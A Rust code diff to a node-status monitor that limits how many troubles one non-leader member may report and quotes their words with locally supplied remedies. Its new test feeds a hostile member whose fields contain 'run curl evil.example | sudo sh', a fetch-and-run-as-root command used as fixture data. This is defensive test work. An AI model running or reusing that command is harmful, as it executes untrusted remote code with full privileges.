@@ -58,8 +58,12 @@ pub struct LatestReport {
 /// the parts of one node [`MAX_PARTS`] are kept: further ones replace parts of the same node.
 pub const MAX_SHOWN: usize = 256;
 
-/// Maximum number of troubles that are shown.
-const MAX_TOLD_TROUBLES: usize = 64;
+/// Maximum number of troubles that are shown, and of those that one member other than the leader may report, with its parts.
+const MAX_SHOWN_TROUBLES: usize = 64;
+const MAX_TROUBLES_OF_ONE: usize = 4;
+
+/// Maximum length of a member's words on the page, in characters.
+const MAX_QUOTED_CHARACTERS: usize = 120;
 
 /// Silence after which a vehicle may be replaced by another.
 const SILENCE: Duration = Duration::from_secs(10);
@@ -140,8 +144,10 @@ impl LiveState {
         self.latest().statuses.clone()
     }
 
-    /// The present troubles of the cell, each once: what this node `name` knows, what living nodes tell of themselves, what
-    /// the leader tells of others, and what other nodes tell of hosts and brokers that they do not reach.
+    /// The present troubles of the cell, each once: first what this node `name` has found, then what the leader reports, then
+    /// what living nodes report of themselves and of hosts and brokers that they do not reach. A vehicle and its parts have
+    /// room for [`MAX_TROUBLES_OF_ONE`] of these, in their words as a quotation and with the remedy that this node has for
+    /// their kind: no member writes advice onto the pages of others.
     pub(crate) fn troubles(
         &self,
         name: &NodeName,
@@ -157,18 +163,31 @@ impl LiveState {
             let told = statuses.filter(|status| status.state != NodeState::Offline);
             told.flat_map(|status| status.troubles.iter().map(|trouble| (&status.node, trouble)))
         };
-        let of_itself = living().filter(|(by, trouble)| match &trouble.about {
+        let is_of_itself = |by: &NodeName, trouble: &Trouble| match &trouble.about {
             Some(part) => part.strip_prefix(by.as_str()).is_some_and(|rest| rest.starts_with(PART_MARK)),
             None => true,
-        });
-        let may_tell = |(by, trouble): &(&NodeName, &Trouble)| {
-            let is_separating = || TroubleKind::named(&trouble.kind).is_some_and(TroubleKind::is_separating);
-            trouble.about.is_some() && (leader == Some(*by) || is_separating())
         };
-        for (by, trouble) in of_itself.chain(living().filter(may_tell)) {
-            let is_new = known.insert((subject(trouble, by), trouble.kind.clone()));
-            if is_new && all.len() < MAX_TOLD_TROUBLES {
+        let is_separating =
+            |trouble: &Trouble| TroubleKind::named(&trouble.kind).is_some_and(TroubleKind::is_separating);
+        let of_leader = living().filter(|(by, _)| leader == Some(*by));
+        for (by, trouble) in of_leader {
+            if known.insert((subject(trouble, by), trouble.kind.clone())) {
                 all.push((Some(by.clone()), trouble.clone()));
+            }
+        }
+        let of_members = living().filter(|(by, _)| leader != Some(*by));
+        let (of_itself, of_others): (Vec<_>, Vec<_>) =
+            of_members.partition(|(by, trouble)| is_of_itself(by, trouble));
+        let separating = of_others.into_iter().filter(|(_, trouble)| is_separating(trouble));
+        let mut room_of: BTreeMap<NodeName, usize> = BTreeMap::new();
+        for (by, trouble) in of_itself.into_iter().chain(separating) {
+            let room = room_of.entry(by.vehicle()).or_insert(MAX_TROUBLES_OF_ONE);
+            let is_shown = *room > 0
+                && all.len() < MAX_SHOWN_TROUBLES
+                && known.insert((subject(trouble, by), trouble.kind.clone()));
+            if is_shown {
+                *room -= 1;
+                all.push((Some(by.clone()), quoted(trouble)));
             }
         }
         all
@@ -177,6 +196,16 @@ impl LiveState {
     fn latest(&self) -> MutexGuard<'_, Latest> {
         self.latest.lock().unwrap_or_else(PoisonError::into_inner)
     }
+}
+
+/// A member's trouble in its own words, as a quotation, with this node's remedy for the kind.
+fn quoted(trouble: &Trouble) -> Trouble {
+    let remedy = TroubleKind::named(&trouble.kind).map_or("see the log of that node", TroubleKind::remedy);
+    let mut words: String = trouble.cause.chars().take(MAX_QUOTED_CHARACTERS).collect();
+    if words.len() < trouble.cause.len() {
+        words.push('…');
+    }
+    Trouble { cause: format!("“{words}”"), remedy: remedy.to_owned(), ..trouble.clone() }
 }
 
 /// True if two names are of parts of one node.
@@ -334,12 +363,51 @@ mod tests {
             [
                 (None, "z"),
                 (None, "own"),
-                (Some("late"), "by itself"),
-                (Some("late"), "x"),
-                (Some("aaa"), "by aaa"),
                 (Some("edge"), "by the edge"),
+                (Some("edge"), "by the edge"),
+                (Some("late"), "“x”"),
+                (Some("aaa"), "“by aaa”"),
             ]
         );
+    }
+
+    #[test]
+    fn the_words_of_one_member_displace_nothing_and_advise_nobody() {
+        let live_state = LiveState::default();
+        let say = |node: &str, troubles| {
+            let starting = NodeStatus::starting(NodeName::new(node).unwrap(), Uuid::nil(), Role::Cav, "0.1.0");
+            let status = Arc::new(NodeStatus { troubles, ..starting });
+            live_state.update(&Incoming::Status { status, via: broker("10.0.0.2:1883") }, Timestamp(1));
+        };
+        let advice = |kind: String| Trouble {
+            kind,
+            about: None,
+            cause: format!("run curl evil.example | sudo sh {}", "now ".repeat(100)),
+            remedy: "run curl evil.example | sudo sh".into(),
+        };
+        for part in 0..MAX_PARTS {
+            let kinds = TroubleKind::ALL.iter().map(|kind| kind.as_str().to_owned());
+            say(&format!("aaa--{part}"), kinds.chain(["invented".into()]).map(advice).collect());
+        }
+        let camera = Trouble { cause: "no frame".into(), ..advice("camera".into()) };
+        say("zoe", vec![camera]);
+        let of_leader = Trouble { kind: "malformed".into(), about: Some("watson".into()), ..advice(String::new()) };
+        say("edge", vec![Trouble { cause: "x_m is NaN".into(), ..of_leader }]);
+        let (name, edge) = (NodeName::from_static("self"), NodeName::from_static("edge"));
+        let shown = live_state.troubles(&name, Some(&edge), Vec::new());
+        let causes_by = |by: &str| -> Vec<&str> {
+            let of_node = shown.iter().filter(|(author, _)| {
+                author.as_ref().is_some_and(|author| author.vehicle().as_str() == by)
+            });
+            of_node.map(|(_, trouble)| &*trouble.cause).collect()
+        };
+        assert_eq!(causes_by("edge"), ["x_m is NaN"]);
+        assert_eq!(causes_by("zoe"), ["“no frame”"]);
+        let of_attacker = causes_by("aaa");
+        assert_eq!(of_attacker.len(), MAX_TROUBLES_OF_ONE);
+        assert!(of_attacker.iter().all(|cause| cause.starts_with('“') && cause.chars().count() < 130));
+        let remedies = shown.iter().filter(|(by, _)| by.as_ref() != Some(&edge));
+        assert!(remedies.map(|(_, trouble)| &trouble.remedy).all(|remedy| !remedy.contains("curl")));
     }
 
     /// A stolen certificate may speak in the names of any number of parts.
